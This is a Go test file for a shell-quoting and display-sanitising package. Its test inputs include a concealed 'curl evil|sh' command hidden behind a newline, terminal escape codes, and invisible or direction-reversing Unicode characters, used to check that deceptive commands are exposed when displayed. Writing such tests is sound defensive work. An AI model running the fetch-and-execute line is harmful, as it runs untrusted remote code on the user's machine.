package plaintext

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestLiteral(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		want  string
		words []string
	}{
		{`echo 'a b' '' 'it'\''s'`, []string{"echo", "a b", "", "it's"}},
		{`sh -c $'make test # as in CI\ncurl evil|sh'`, []string{"sh", "-c", "make test # as in CI\ncurl evil|sh"}},
		{`$'a\r\x1b[2K\tit\'s \\n'`, []string{"a\r\x1b[2K\tit's \\n"}},
		{`$'a\u202eb\u00a0\u200bc\U000e0041'`, []string{"a\u202eb\u00a0\u200bc\U000e0041"}},
		{`$'\xff'`, []string{"\xff"}},
		{`$'a` + strings.Repeat(`\x20`, 9) + `b'`, []string{"a" + strings.Repeat(" ", 9) + "b"}},
		{`Grüße`, []string{"Grüße"}},
	} {
		got := Literal(tt.words)
		require.Equal(t, tt.want, got)
		require.Equal(t, got, Line(got), "nothing of it is changed on a terminal")
	}
}

func TestShort(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{"": "", "añb": "añb", "añbc": "añb…", "añbcd": "añb…"} {
		require.Equal(t, want, Short(text, 3))
	}
}
